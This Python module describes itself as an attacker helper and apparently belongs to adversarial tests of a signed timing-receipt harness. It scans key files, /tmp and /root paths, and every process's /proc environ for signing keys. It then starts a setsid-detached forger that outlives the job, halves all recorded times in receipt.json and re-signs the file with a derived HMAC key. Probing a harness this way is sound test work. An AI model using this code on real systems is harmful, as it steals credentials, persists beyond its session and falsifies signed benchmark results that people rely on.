"""Attacker helper: find the master key, and forge a finished receipt from a detached process.

``find_keys()`` tries every place a job could find a signing key; ``spawn_forger(master_hex)`` starts a
``setsid`` child that outlives the job, waits for ``../out/receipt.json``, halves every time in it, marks it
``adv_forged`` and re-signs it with HMAC(master, trial id).  Every finding is printed as ``ADV-FOUND ...``.
"""
import glob
import hashlib
import hmac
import json
import os
import subprocess
import sys

FORGER = r'''
import hashlib, hmac, json, os, sys, time
out, master_hex, mark = sys.argv[1], sys.argv[2], sys.argv[3]
path = os.path.join(out, "receipt.json")
start = time.time()
while time.time() - start < 90:
    if os.path.exists(path):
        try:
            d = json.load(open(path))
        except ValueError:
            time.sleep(0.01)
            continue
        if d.get("adv_forged"):
            break
        def half(v):
            return v / 2 if isinstance(v, (int, float)) and not isinstance(v, bool) else v
        for u in d.get("updates", []):
            for k in ("wall_t", "step_time_s"):
                u[k] = half(u.get(k))
            if isinstance(u.get("phases"), dict):
                u["phases"] = {k: half(v) for k, v in u["phases"].items()}
        if isinstance(d.get("header"), dict) and "wall_t" in d["header"]:
            d["header"]["wall_t"] = half(d["header"]["wall_t"])
        w = d.get("wrapper") or {}
        w["wall_s"] = half(w.get("wall_s"))
        d["adv_forged"] = mark
        d.pop("signature", None)
        key = hmac.new(bytes.fromhex(master_hex), d["trial_id"].encode(), hashlib.sha256).digest()
        body = json.dumps(d, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
        d["signature"] = hmac.new(key, body, hashlib.sha256).hexdigest()
        tmp = path + ".forged"
        open(tmp, "w").write(json.dumps(d))
        os.replace(tmp, path)
        break
    time.sleep(0.005)
'''


def _read_hex(path: str) -> str | None:
    try:
        text = open(path).read().strip()
        bytes.fromhex(text)
        return text if len(text) >= 32 else None
    except (OSError, ValueError):
        return None


def find_keys() -> dict[str, str]:
    """Every key this process can read: {description: hex}."""
    found: dict[str, str] = {}
    candidates = []
    for var in ("INFRARSI_KEY_FILE",):
        if os.environ.get(var):
            candidates.append(os.environ[var])
    for base in (os.environ.get("INFRARSI_HOME"), os.environ.get("XDG_STATE_HOME") and
                 os.path.join(os.environ["XDG_STATE_HOME"], "infrarsi"),
                 os.path.expanduser("~/.local/state/infrarsi"), "/root/.local/state/infrarsi"):
        if base:
            candidates.append(os.path.join(base, "signing.key"))
    candidates += ["../out/trial.key", "../../out/trial.key", "out/trial.key"]
    candidates += glob.glob("../out/*.key") + glob.glob("/tmp/*/signing.key") + glob.glob("/tmp/*/home/signing.key")
    for c in candidates:
        h = _read_hex(c)
        if h:
            found[f"file {os.path.abspath(c)}"] = h
    for env_file in [f"/proc/{os.getppid()}/environ"] + glob.glob("/proc/[0-9]*/environ"):
        try:
            env = dict(kv.split("=", 1) for kv in open(env_file, "rb").read().decode("utf-8", "replace").split("\0")
                       if "=" in kv)
        except OSError:
            continue
        if env.get("INFRARSI_SIGNING_KEY"):
            found[f"INFRARSI_SIGNING_KEY in {env_file}"] = env["INFRARSI_SIGNING_KEY"]
        for var in ("INFRARSI_KEY_FILE",):
            h = _read_hex(env.get(var, "")) if env.get(var) else None
            if h:
                found[f"{var} from {env_file}"] = h
        if env.get("INFRARSI_HOME"):
            h = _read_hex(os.path.join(env["INFRARSI_HOME"], "signing.key"))
            if h:
                found[f"INFRARSI_HOME from {env_file}"] = h
    for k in found:
        print(f"ADV-FOUND {k}", flush=True)
    return found


def master_candidates(found: dict[str, str]) -> list[str]:
    """Found keys that look like the master key (not the per-trial key files)."""
    return [v for k, v in found.items() if "trial.key" not in k and "SIGNING_KEY" not in k]


def spawn_forger(master_hex: str, mark: str) -> None:
    """Start the detached (setsid) forger; it outlives this job."""
    out = os.path.abspath("../out")
    subprocess.Popen([sys.executable, "-c", FORGER, out, master_hex, mark], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     close_fds=True)
    print(f"ADV-FORGER started for {out}", flush=True)
